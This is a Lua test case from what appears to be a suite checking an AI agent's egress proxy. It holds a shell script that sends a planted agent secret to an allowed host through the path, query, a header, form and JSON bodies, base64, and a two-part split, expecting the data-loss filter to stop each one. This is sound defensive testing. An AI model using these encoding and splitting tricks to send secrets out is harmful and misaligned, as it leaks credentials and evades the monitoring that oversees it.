-- attack 3: the planted agent secret (key-shaped) sent to an allowed host,
-- the suite's upstream, through the agent's proxy: in the path, the query,
-- a header and the body; base64-encoded; split in two halves across two
-- requests. A clean request must arrive (else the attack proves nothing);
-- the secret must not: neither whole, nor base64, nor the second half.
return {
  id = 3,
  name = "the planted secret sent to an allowed host (path, query, header, body, base64, split in two)",
  layer = "content",
  requires = "filtering bundle",
  stops = "the filter's DLP: URL, headers and body, their base64 and hex decoded; fragment reassembly across requests (the bundle)",
  targets = { "upstream" },
  arrives = "clean",
  leaks = { "agent_secret" },
  expect = { "clean: answered by the upstream" },
  script = [[
k=$CORK_ESCAPE_AGENT_SECRET
u="http://$ALLOWED:$PORT"
get() { ask "GET $u$1 HTTP/1.1\r\nHost: $ALLOWED:$PORT\r\n$3Connection: close\r\n\r\n" "$2"; }
half=$(( ${#k} / 2 ))
first=$(printf '%s' "$k" | head -c "$half"); second=${k#"$first"}
# a clean request first (in a place of its own: fragment reassembly joins
# values by place), then the split, while the filter has seen nothing else
# of the secret
get "/collect?probe=clean" "clean"
get "/collect?part=1&d=$first" "split, first half"
get "/collect?part=2&d=$second" "split, second half"
get "/collect/$k" "path"
get "/collect?d=$k" "query"
get "/collect" "header" "X-Data: $k\r\n"
b="d=$k"; ask "POST $u/collect HTTP/1.1\r\nHost: $ALLOWED:$PORT\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${#b}\r\nConnection: close\r\n\r\n$b" "body"
b="{\"note\": \"$k\"}"; ask "POST $u/collect HTTP/1.1\r\nHost: $ALLOWED:$PORT\r\nContent-Type: application/json\r\nContent-Length: ${#b}\r\nConnection: close\r\n\r\n$b" "json body"
get "/collect?d=$(printf '%s' "$k" | base64 | tr -d '\n=')" "base64 query"
b=$(printf 'token=%s' "$k" | base64 | tr -d '\n'); ask "POST $u/collect HTTP/1.1\r\nHost: $ALLOWED:$PORT\r\nContent-Type: text/plain\r\nContent-Length: ${#b}\r\nConnection: close\r\n\r\n$b" "base64 body"
]],
}
